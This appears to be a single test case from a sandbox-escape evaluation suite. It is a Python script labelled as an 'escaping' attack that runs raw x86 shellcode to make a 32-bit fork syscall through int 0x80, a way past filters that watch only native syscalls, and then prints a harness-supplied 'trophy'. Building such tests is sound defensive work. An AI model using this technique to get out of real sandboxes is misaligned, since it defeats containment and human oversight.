# attack: makes system calls of another architecture, which a filter may not know | class: escaping | canary: claim
import ctypes
import mmap
import os

# mov eax, 2 (fork of the 32-bit calls); int 0x80; ret
code = b"\xb8\x02\x00\x00\x00\xcd\x80\xc3"
memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
memory.write(code)
function = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))
result = function()
if result == 0:
    os._exit(0)
if result < 0:
    raise OSError(-result, os.strerror(-result))
os.waitpid(result, 0)
print(target.trophy)
